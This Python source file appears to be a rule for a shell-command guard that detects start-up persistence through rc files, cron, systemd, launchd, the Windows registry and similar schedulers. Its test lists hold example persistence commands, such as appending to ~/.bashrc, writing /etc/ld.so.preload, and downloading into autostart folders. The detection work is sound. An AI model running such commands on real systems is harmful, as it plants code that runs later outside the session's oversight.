"""What is written to a start-up file or a scheduler runs again later, outside this session and its guard."""

from holdfast.guard.rule import Finding, Rule, short

TYPE_CHECKING = False
if TYPE_CHECKING:
    from collections.abc import Iterator

    from holdfast.guard.effects import Effect
    from holdfast.guard.line import Command, Line


def check(line: "Line") -> "Iterator[Finding]":
    for command in line.commands:
        program = command.program
        what = _SCHEDULERS[program](command, line) if program in _SCHEDULERS and not command.has_flag("--help", "--version") else None
        if what:
            yield Finding(f"`{short(command)}` {what}", start=command.start, end=command.end)
            continue
        written = _written(command, line)
        if written:
            yield Finding(f"`{written.how}` writes {written.arg.shown[:80]}, which runs by itself later", start=command.start,
                          end=command.end)


def _written(command: "Command", line: "Line") -> "Effect | None":
    """The first start-up file that a command writes."""
    if not any(r.writes for r in command.redirects) and len(command.argv) < 2 and "/" not in repr(command):
        return None
    from holdfast.guard.catalogue import TRUSTED
    from holdfast.guard.effects import suspected, writes
    from holdfast.guard.targets import startup
    world = line.world
    if command.program in ("touch", "mkdir", "chmod", "chown") and not command.redirects:
        return None
    for effect in (*writes(command, world), *suspected(command, world, TRUSTED)):
        if effect.path and startup(effect.path, world) and not _plain_settings(effect.path, command, line):
            return effect
    return None


def _plain_settings(path: str, command: "Command", line: "Line") -> bool:
    """Lines for apt or the loader that start nothing: `APT::Install-Recommends "0";`, a folder of the system."""
    if path.startswith(("/etc/apt/apt.conf.d/", "/etc/ld.so.conf")):
        said = " ".join([a.shown for a in command.args] + [a.shown for c in command.feeds for a in c.args] + ([command.stdin.shown]
            if command.stdin else []))
        if not said.strip("- /.abcdefghijklmnopqrstuvwxyz0123456789"):
            return False
        known = not any(a.unknowns for c in (command, *command.feeds) for a in c.args)
        if path.startswith("/etc/apt"):
            return known and "::" in said and "nvoke" not in said and "Pre-Install" not in said and "://" not in said.replace(
                "http://archive", "")
        return known and any(start in said for start in ("/usr/", "/opt/")) and "/tmp" not in said and "/home" not in said
    return False


def _crontab(command: "Command", line: "Line") -> "str | None":
    if command.has_flag("l", "--list", "h", "-T", "V"):
        return None
    if command.has_flag("e", "r"):
        return "changes what cron runs"
    given = command.operands("-u -c") or command.feeds or command.stdin is not None or command.redirects
    return "changes what cron runs" if given else None


def _at(command: "Command", line: "Line") -> "str | None":
    return None if command.has_flag("l", "q", "V", "c", "d", "r", "--list") and not command.has_flag(
        "f") else "schedules commands that run later"


# Units of well-known packages: switching such a service on is what setting up a machine is.
_SERVICES = frozenset("""docker containerd nginx apache2 httpd ssh sshd postgresql mysql mysqld mariadb redis redis-server
rabbitmq-server mongod memcached haproxy
caddy php-fpm tailscaled chronyd chrony ntp ntpd systemd-timesyncd systemd-resolved systemd-networkd networkmanager ufw firewalld
fail2ban unattended-upgrades
podman kubelet k3s crio libvirtd snapd bluetooth cups avahi-daemon rsyslog grafana-server prometheus node_exporter elasticsearch kibana
logstash jenkins
gitlab-runner supervisor supervisord vault consul nomad etcd minio bind9 named dnsmasq postfix dovecot exim4 squid varnish tomcat tomcat9
auditd
apparmor multipathd iscsid nfs-server nfs-kernel-server rpcbind smbd smb nmbd vsftpd openvpn wireguard keepalived pcscd fwupd
zerotier-one dbus
tlp thermald acpid irqbalance fstrim qemu-guest-agent vmtoolsd open-vm-tools cloud-init amazon-ssm-agent google-cloud-ops-agent
amazon-cloudwatch-agent
influxdb telegraf loki promtail fluentd fluent-bit td-agent filebeat metricbeat zookeeper kafka cassandra solr opensearch
clickhouse-server pgbouncer
lightdm gdm gdm3 sddm display-manager systemd-oomd zram postgres slapd sssd mosquitto nats-server traefik envoy gunicorn uwsgi pipewire
pulseaudio
ollama code-server coder tor syncthing xrdp vncserver fcgiwrap php8.1-fpm php8.2-fpm php8.3-fpm warp-svc mullvad-daemon amazon-ecs ecs
newrelic-infra
datadog-agent build x2goserver nmb winbind networkmanager-wait-online apt-daily reflector paccache plexmediaserver lxd
lxc incus cockpit""".split())


def _service_name(word: str) -> str:
    return word.rpartition("/")[2].partition("@")[0].removesuffix(".service").removesuffix(".socket").removesuffix(".timer").lower()


def _systemctl(command: "Command", line: "Line") -> "str | None":
    taking = "-t --type -p --property -H --host -M --machine -n --lines -o --output --root --state -s --signal"
    operands = [a.value or a.shown for a in command.operands(taking)]
    verb = operands[0] if operands else ""
    if verb in ("link", "edit", "set-environment", "import-environment", "revert", "set-property") and verb != "revert":
        return "makes a unit start by itself" if verb in ("link", "edit") else None
    if verb in ("set-default", "preset", "preset-all"):
        return "changes what starts at boot" if len(operands) > 1 or verb == "preset-all" else None
    if verb not in ("enable", "reenable", "add-wants", "add-requires"):
        return None
    units = operands[1:]
    if units and all(_service_name(unit) in _SERVICES and "/" not in unit for unit in units) and not command.has_flag("--user", "--global"):
        return None
    if command.has_flag("--user", "--global") or any("/" in unit or unit.endswith((".timer", ".path")) for unit in units):
        return "makes a unit start by itself"
    return "makes a unit start by itself" if units else None


def _launchctl(command: "Command", line: "Line") -> "str | None":
    words = [w for w in command.words if w]
    return "makes a job start by itself" if set(words[:1]) & {"load", "bootstrap", "submit", "enable", "config", "setenv", "asuser",
                                                              "spawn"} else None


def _rc_tools(command: "Command", line: "Line") -> "str | None":
    words = [w for w in command.words if w]
    names = {_service_name(w) for w in words}
    if names & _SERVICES:
        return None
    return "makes a service start by itself" if set(words) & {"defaults", "enable", "on", "add", "--add", "-a", "default", "boot",
                                                              "start"} else None


def _systemd_run(command: "Command", line: "Line") -> "str | None":
    return "schedules a command" if any((w or "").startswith(("--on-", "--timer-property", "--path-property"))
                                        for w in command.words) else None


def _defaults(command: "Command", line: "Line") -> "str | None":
    text = repr(command).lower()
    return "makes something run at login" if "write" in text and ("loginhook" in text or "logouthook" in text or "loginwindow" in text
                                                                  or "loginitems" in text) else None


def _osascript(command: "Command", line: "Line") -> "str | None":
    text = repr(command).lower()
    return "adds a login item" if "login item" in text or "login_item" in text or "loginitem" in text else None


def _schtasks(command: "Command", line: "Line") -> "str | None":
    return "schedules a task" if any((w or "").lower() in ("/create", "/change") for w in command.words) else None


def _reg(command: "Command", line: "Line") -> "str | None":
    text = repr(command).lower()
    return "makes something run at login" if " add" in text and ("currentversion" in text and "run" in text or "winlogon" in text
                                                                 or "services" in text
                                                                   or "image file execution" in text
                                                                   or "command processor" in text) else None


def _sc(command: "Command", line: "Line") -> "str | None":
    return "makes a service start by itself" if any((w or "").lower() in ("create", "config") for w in command.words[:2]) else None


def _pm2(command: "Command", line: "Line") -> "str | None":
    return "makes it start at boot" if (command.words[:1] or [None])[0] in ("startup", "resurrect") else None


def _gsettings(command: "Command", line: "Line") -> "str | None":
    text = repr(command)
    return "makes something run by itself" if "set" in command.words[:1] and ("command" in text or "autostart" in text) else None


def _udevadm(command: "Command", line: "Line") -> "str | None":
    words = command.words
    return "makes udev run its rules" if words[:1] == ["trigger"] or words[:1] == ["control"] and command.has_flag("R", "--reload-rules",
        "--reload") else None


_SCHEDULERS = {"crontab": _crontab, "at": _at, "batch": _at, "systemctl": _systemctl, "launchctl": _launchctl, "update-rc.d": _rc_tools,
               "chkconfig": _rc_tools, "rc-update": _rc_tools, "insserv": _rc_tools, "systemd-run": _systemd_run, "defaults": _defaults,
               "osascript": _osascript,
               "schtasks": _schtasks, "schtasks.exe": _schtasks, "reg": _reg, "reg.exe": _reg, "sc": _sc, "sc.exe": _sc, "pm2": _pm2,
               "fcrontab": _crontab,
               "gsettings": _gsettings, "dconf": _gsettings, "sysv-rc-conf": _rc_tools, "incrontab": _crontab, "udevadm": _udevadm,
               "sysrc": _rc_tools, "rcctl": _rc_tools}

RULE = Rule(
    code="PER001",
    title="start-up persistence",
    category="persistence",
    why="It would run again later, outside this session and without its guard.",
    instead="Set what you need for this one command, for example `PATH=\"$HOME/bin:$PATH\" make`, or say what a person should add.",
    severity="danger",
    blocks=("echo 'export X=1' >> ~/.bashrc", "cat >> $HOME/.zshrc <<'E'\nalias a=b\nE", "tee -a ~/.profile < x", "crontab jobs.txt",
            "(crontab -l; echo '* * * * * id') | crontab -", "cp evil.service /etc/systemd/system/", "systemctl --user enable job.timer",
            "sed -i '$ a id' ~/.bash_profile", "echo id | at now + 1 hour", "cp x.desktop ~/.config/autostart/",
            "sudo sh -c 'echo x > /etc/ld.so.preload'",
            "cd ~ && echo id >> .bashrc", "launchctl load ~/Library/LaunchAgents/x.plist", "ln -sf $PWD/rc ~/.zshenv",
            "echo x | sudo tee /etc/cron.d/job",
            "for f in ~/.bashrc ~/.zshrc; do echo id >> $f; done", "mv rc /root/.bashrc", "install -m 755 x /etc/init.d/x",
            "curl -s example.invalid -o ~/.bashrc",
            "dd if=x of=/etc/profile.d/x.sh", "echo x >> \"$SOME_HOME/.bashrc\"", "systemd-run --on-boot=60 id",
            "printf x >> /home/dev/.zshrc", "unknown-tool --save ~/.bashrc", "tar -C /etc/cron.d -xf x.tar job",
            "vim -c ':w ~/.zshrc' -c q x",
            "python3 -c \"open('/etc/cron.d/x', 'w').write('x')\"", "wget -P ~/.config/autostart http://example.invalid/x.desktop",
            "split -b 1k x ~/.bashrc",
            "sudo systemctl enable job.service", "defaults write com.apple.loginwindow LoginHook /tmp/x",
            "awk '{print > \"/etc/rc.local\"}' x",
            "sed 'w /etc/cron.d/x' y", "perl -i -pe 's/a/b/' ~/.profile", "rsync x.sh /etc/cron.daily/", "echo id >> ~root/.profile"),
    allows=("cat ~/.bashrc", "source ~/.bashrc", "cp ~/.bashrc ~/.bashrc.bak", "crontab -l", "systemctl status nginx",
            "grep alias ~/.zshrc",
            "echo 'add this to ~/.bashrc'", "git commit -m 'write ~/.bashrc'", "systemctl --user restart app", "ls /etc/cron.d",
            "echo x > bashrc",
            "cp .bashrc.example config/.bashrc", "atq", "at -l", "diff ~/.zshrc dotfiles/.zshrc", "systemctl list-timers",
            "echo x >> docs/.profile",
            "man crontab", "vim --version", "stat ~/.config/autostart", "launchctl list", "sudo systemctl enable --now docker",
            "bash ~/.profile",
            "echo 'Acquire::Retries \"3\";' > /etc/apt/apt.conf.d/80retries", "tar czf rc.tgz ~/.bashrc", "cp deploy/app.service build/",
            "rg PATH ~/.zshrc",
            "sed -n 1,5p ~/.bashrc", "systemctl daemon-reload", "cp /etc/cron.d/job jobs/", "git diff --no-index ~/.zshrc dotfiles/.zshrc"),
    check=check,
)
